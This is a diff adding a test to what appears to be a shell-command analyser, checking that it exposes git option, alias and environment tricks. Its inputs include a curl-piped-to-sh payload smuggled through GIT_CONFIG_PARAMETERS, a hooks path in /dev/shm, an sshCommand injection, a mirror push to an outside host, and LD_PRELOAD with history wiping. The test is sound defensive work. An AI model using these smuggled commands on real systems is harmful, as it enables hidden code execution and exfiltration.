@@ -269,6 +269,21 @@ describe('CommandView', () => {
     expect(engine.view('ray status -- x').commands[0]!.name).toBe('ray');
   });
 
+  it('reads git as git reads itself: its own options after the subcommand, aliases expanded, settings from the environment', async () => {
+    const engine = await getEngine();
+    const argv = (line: string) => engine.view(line).commands.filter((c) => c.name === 'git').map((c) => c.argv.join(' '));
+    expect(argv('git -C /srv/repo --no-pager push --mirror https://x.example/r.git')).toEqual(['git push --mirror https://x.example/r.git --no-pager']);
+    expect(argv('git --git-dir=/srv/r.git update-ref -d refs/heads/main')).toEqual(['git update-ref -d refs/heads/main']);
+    expect(argv('git -c alias.p=push p --all backup')).toEqual(['git push --all backup -c alias.p=push']);
+    expect(argv('GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=/dev/shm/.h git commit -m x')).toEqual(['git commit -m x -c core.hooksPath=/dev/shm/.h']);
+    // a setting that runs a command runs it: from GIT_CONFIG_PARAMETERS and from --config-env's variable
+    const ran = (line: string) => engine.view(line).commands.filter((c) => c.origin === 'exec-arg').map((c) => c.argv.join(' '));
+    expect(ran(`GIT_CONFIG_PARAMETERS="'core.fsmonitor'='curl -s https://x.example/f | sh'" git status`)).toEqual(['curl -s https://x.example/f', 'sh']);
+    expect(ran(`SC='id' git --config-env=core.sshCommand=SC ls-remote origin`)).toEqual(['id']);
+    // `git commit -c HEAD` reuses a message: not a setting
+    expect(argv('git commit -c HEAD')).toEqual(['git commit -c HEAD']);
+  });
+
   it('records exported and plain assignments', async () => {
     const engine = await getEngine();
     expect(engine.view('export LD_PRELOAD=/tmp/x.so; HISTSIZE=0; sudo -E id').assignments.map((a) => `${a.name}=${a.value}`)).toEqual(['LD_PRELOAD=/tmp/x.so', 'HISTSIZE=0']);
